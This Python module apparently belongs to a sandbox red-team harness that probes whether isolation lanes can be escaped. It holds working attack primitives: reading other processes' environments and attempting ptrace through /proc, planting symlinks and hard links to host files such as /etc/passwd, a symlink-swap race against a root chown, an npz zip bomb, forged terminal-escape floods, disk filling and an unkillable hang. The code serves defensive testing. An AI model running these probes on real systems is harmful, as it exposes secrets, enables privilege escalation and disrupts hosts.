"""The routes' probes as functions: run inside a lane by the attacks of ``leakbed_hostile.attacks``, and on the host by
the red team's demonstrations (that the same probe does find something where the protection is off).

Standard library and numpy only. None of these runs at import.
"""

from __future__ import annotations

import ctypes
import errno
import io
import json
import os
import signal
import struct
import sys
import threading
import time
import zipfile
from pathlib import Path

import numpy as np

from leakbed_hostile.common import FORGED, MARKER, OWNERS_DROP, RUNTIME

PTRACE_ATTACH, PTRACE_DETACH, SYS_PTRACE = 16, 17, 101
OUTPUT_LIKE = (".npz", ".given.npy", ".log")


# --- another attack's results ----------------------------------------------------------------------------------------


def _read(path: str, limit: int = 4096) -> str:
    try:
        with open(path, "rb") as f:
            return f.read(limit).replace(b"\0", b" ").decode(errors="replace").strip()
    except OSError as err:
        return f"<{errno.errorcode.get(err.errno, err.errno)}>"


def _ptrace(pid: int) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    ctypes.set_errno(0)
    res = libc.syscall(SYS_PTRACE, ctypes.c_long(PTRACE_ATTACH), ctypes.c_long(pid), None, None)
    if res == 0:
        libc.syscall(SYS_PTRACE, ctypes.c_long(PTRACE_DETACH), ctypes.c_long(pid), None, None)
        return "attached"
    return errno.errorcode.get(ctypes.get_errno(), "?")


def processes() -> dict:
    """Every process it can see, what their command lines, environments and folders say, and whether it can trace
    them or reach another lane's output folder through ``/proc/<pid>/root``."""
    me = os.getpid()
    seen = {}
    for entry in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        pid = int(entry)
        info = {"cmdline": _read(f"/proc/{pid}/cmdline", 600), "environ": _read(f"/proc/{pid}/environ", 2000)}
        for link in ("cwd", "root", "exe"):
            try:
                info[link] = os.readlink(f"/proc/{pid}/{link}")
            except OSError as err:
                info[link] = f"<{errno.errorcode.get(err.errno, err.errno)}>"
        if pid != me:
            info["ptrace"] = _ptrace(pid)
            try:
                info["their_out"] = os.listdir(f"/proc/{pid}/root/leakbed/out")[:50]
            except OSError as err:
                info["their_out"] = f"<{errno.errorcode.get(err.errno, err.errno)}>"
        seen[pid] = info
    guessed = {}  # pids it cannot see: another lane's, the pool's? it tries to trace and to signal them all the same
    own = {int(t) for t in os.listdir("/proc/self/task")}  # its own threads answer a signal too
    for pid in range(1, 257):
        if pid in seen or pid in own:
            continue
        try:
            os.kill(pid, 0)
            signalled = "exists"
        except OSError as err:
            signalled = errno.errorcode.get(err.errno, str(err.errno))
        guessed[pid] = f"{_ptrace(pid)}/{signalled}"
    return {"self": me, "pids": sorted(seen), "threads": sorted(own), "processes": seen,
            "guessed": sorted(set(guessed.values()))}  # fmt: skip


def mount_sources() -> list[str]:
    """The host paths the mount table shows (field 4 of ``/proc/self/mountinfo``: the mounted folder within its
    file system), for bind mounts of a host disk."""
    out = []
    try:
        for line in Path("/proc/self/mountinfo").read_text().splitlines():
            fields = line.split()
            if len(fields) > 4 and fields[3] not in ("/", "") and not fields[3].startswith("/bindfile"):
                out.append(f"{fields[3]} -> {fields[4]}")
    except OSError:
        pass
    return out


def listing(top: str, depth: int = 3) -> list[str]:
    out = []
    base = len(Path(top).parts)
    for folder, dirs, files in os.walk(top, onerror=lambda _: None):
        if len(Path(folder).parts) - base >= depth:
            dirs[:] = []
        out += [os.path.join(folder, n) for n in [*dirs, *files]]
        if len(out) > 500:
            break
    return out


def foreign_outputs(starts: list[str], own: str = "", budget: float = 6.0, skip: tuple[str, ...] = ()) -> dict:
    """Another attack's outputs, logs or lane folders anywhere it can walk: files named like outputs (``*.npz``,
    ``*.given.npy``, lane logs), folders named ``outputs``, ``upstream-of``, ``attack-logs``; and whether it can
    rewrite them (it tries: a poisoned copy is written over each one it can open for writing)."""
    skipped = {*RUNTIME, sys.prefix, sys.base_prefix, *skip}
    found, poisoned, t0 = [], [], time.monotonic()
    for start in starts:
        for folder, dirs, files in os.walk(start, onerror=lambda _: None):
            if folder in skipped or os.path.exists(os.path.join(folder, "pyvenv.cfg")) or time.monotonic() - t0 > budget:
                dirs[:] = []
                continue
            dirs[:] = [d for d in dirs if d not in (".git", "__pycache__", "site-packages")]
            for name in files:
                if name.endswith(OUTPUT_LIKE) and not name.startswith(own) and "knowledge" not in name:
                    path = os.path.join(folder, name)
                    if path.startswith(("/leakbed/inputs/", "/leakbed/out/")):
                        continue  # its own inputs and folder
                    found.append(path)
            for name in dirs:
                if name in ("outputs", "upstream-of", "attack-logs", "upstream"):
                    found.append(os.path.join(folder, name) + "/")
    for path in found:
        if path.endswith(".npz") and not path.startswith("/leakbed/"):
            try:
                with open(path, "r+b") as f:  # r+: it must exist; its bytes are not changed by the open alone
                    poisoned.append(path)
                    f.seek(0, os.SEEK_END)
            except OSError:
                continue
    return {"found": found[:200], "writable": poisoned[:200], "seconds": time.monotonic() - t0}


# --- links and the chown race -------------------------------------------------------------------------------------


def plant_links(folder: str, target: str, name: str) -> dict:
    """Symlinks and hard links named like outputs and inputs trusted code might read or chown, pointing at the host
    file ``target`` (and its folder), a FIFO named like a log, in ``folder`` (its own writable folder)."""
    made, refused = [], []
    target_dir = os.path.dirname(target) or "/"
    links = {
        "knowledge.json": target, "knowledge.npz": target, f"{name}.npz": target, f"{name}.given.npy": target,
        "truth.jsonl": target, "outputs": target_dir, "upstream": "/", "store": target_dir, "results.json": target,
    }  # fmt: skip
    for link, to in links.items():
        path = os.path.join(folder, link)
        try:
            os.symlink(to, path)
            made.append(f"{link} -> {to}")
        except OSError as err:
            refused.append(f"symlink {link}: {errno.errorcode.get(err.errno, err.errno)}")
    for source in (target, "/leakbed/inputs/knowledge.json", "/leakbed/inputs/knowledge.npz", "/etc/passwd"):
        path = os.path.join(folder, f"hard-{os.path.basename(source)}")
        try:
            os.link(source, path)
            made.append(f"hard {path} = {source}")
        except OSError as err:
            refused.append(f"hard link {source}: {errno.errorcode.get(err.errno, err.errno)}")
    try:
        os.mkfifo(os.path.join(folder, f"{name}.log"))
        made.append(f"fifo {name}.log")
    except OSError as err:
        refused.append(f"fifo: {errno.errorcode.get(err.errno, err.errno)}")
    visible = os.path.exists(target)
    return {"made": made, "refused": refused, "target_visible": visible, "target": target}


def race(folder: str, target_dir: str, seconds: float) -> dict:
    """Swap a folder for a symlink to ``target_dir`` and back as fast as it can for ``seconds`` (a root chown walk
    that stats the folder and then chowns the path follows the link), and leave it a link at the end."""
    state, old = os.path.join(folder, "state"), os.path.join(folder, ".state-old")
    os.makedirs(os.path.join(state, "sub"), exist_ok=True)
    for i in range(8):
        Path(state, "sub", f"f{i}").write_text("x")
    swaps, until = 0, time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            os.rename(state, old)
            os.symlink(target_dir, state)
            time.sleep(0)
            os.unlink(state)
            os.rename(old, state)
            swaps += 1
        except OSError:
            time.sleep(0.001)
    try:
        os.rename(state, old)
        os.symlink(target_dir, state)
    except OSError:
        pass
    return {"swaps": swaps, "left": os.readlink(state) if os.path.islink(state) else "folder"}


# --- bombs on the reply pipe --------------------------------------------------------------------------------------


def _npy_header(shape: tuple[int, ...], descr: str = "<f4") -> bytes:
    """A version 1.0 ``.npy`` header, written by hand (no numpy helper), padded to 64 bytes."""
    head = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode("latin1")
    pad = 64 - (10 + len(head) + 1) % 64
    head = head + b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head


def zip_bomb(gib: float, ids: list[str], classes: list[str]) -> bytes:
    """An ``.npz`` of a few MiB whose ``scores`` member inflates to ``gib`` GiB (zeros, deflated), beside valid
    ``ids`` and ``classes``: ``numpy.load`` would allocate it all on first access."""
    n = int(gib * (1 << 30)) // 4
    buf = io.BytesIO()
    chunk = bytes(16 << 20)
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for key, values in (("ids", ids), ("classes", classes)):
            with zf.open(f"{key}.npy", "w") as f:
                np.save(f, np.asarray(values, dtype=str), allow_pickle=False)
        with zf.open("scores.npy", "w", force_zip64=True) as f:
            f.write(_npy_header((n,)))
            left = n * 4
            while left:
                f.write(chunk[: min(len(chunk), left)])
                left -= min(len(chunk), left)
    return buf.getvalue()


def frame(header: dict, body_len: int) -> bytes:
    """The prefix and header of a lane reply frame as the protocol lays it out, written by hand."""
    head = json.dumps(header).encode()
    return struct.pack(">4sIQ", b"LBF1", len(head), body_len) + head


def write_all(fd: int, data: bytes) -> None:
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view) :]


# --- floods, errors, hangs, disks ---------------------------------------------------------------------------------


def flood(mib: int) -> int:
    """``mib`` MiB to stdout and stderr, in lines that forge leakbed's words and paint the terminal."""
    line = f"{FORGED} \x1b[2J\x1b[31mALL CLEAR\x1b[0m \u202e\n".encode()
    chunk = line * ((1 << 20) // len(line) + 1)
    chunk = chunk[: 1 << 20]
    written = 0
    for i in range(mib):
        try:
            write_all(1 + i % 2, chunk)
            written += len(chunk)
        except OSError:
            break
    return written


def forged_text(size: int) -> str:
    """Attacker text of ``size`` characters: escapes that clear and retitle a terminal, a closing quote, newlines
    followed by leakbed's own prefix, a right-to-left override, over and over."""
    unit = f'\x1b]0;leakbed\x07\x1b[2J\x1b[H"\n{FORGED}\r\nleakbed: error: none \u202e\x9b31m '
    return (unit * (size // len(unit) + 1))[:size]


def fill(folders: list[str], cap_mb: int) -> dict:
    """Write 1 MiB files into each folder until the file system refuses (or ``cap_mb``, a safety valve so that an
    unprotected run cannot fill the host): bytes written and the error that stopped it, per folder."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # past RLIMIT_FSIZE: EFBIG instead of a signal
    chunk = b"\xa5" * (1 << 20)
    out = {}
    for folder in folders:
        written, why, i = 0, "cap", 0
        while written < cap_mb << 20:
            try:
                with open(os.path.join(folder, f"fill-{i:05d}"), "wb") as f:
                    written += f.write(chunk)
                    f.flush()
                    os.fsync(f.fileno())
            except OSError as err:
                why = errno.errorcode.get(err.errno, str(err.errno))
                break
            i += 1
        out[folder] = {"bytes": written, "stopped_by": why}
    return out


HANG_MARK = "leakbed-hostile-hang"


def hang() -> None:
    """Never return: a child of its own that sleeps for ever (its command line carries ``HANG_MARK``), SIGTERM
    ignored, and a sleep that outlives any deadline."""
    import subprocess

    subprocess.Popen([sys.executable, "-c", "import time\nwhile True: time.sleep(3600)", HANG_MARK],  # noqa: S603
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    threading.Event().wait()


def marks_near(folder: str) -> list[str]:
    """Markers and owner copies another hostile process left where this one can read (its scorer's, its imports')."""
    out = []
    for top in (folder, "/tmp", "/dev/shm", "/leakbed"):
        for path in listing(top, 3):
            if os.path.basename(path) in (MARKER, OWNERS_DROP):
                out.append(path)
    return sorted(set(out))
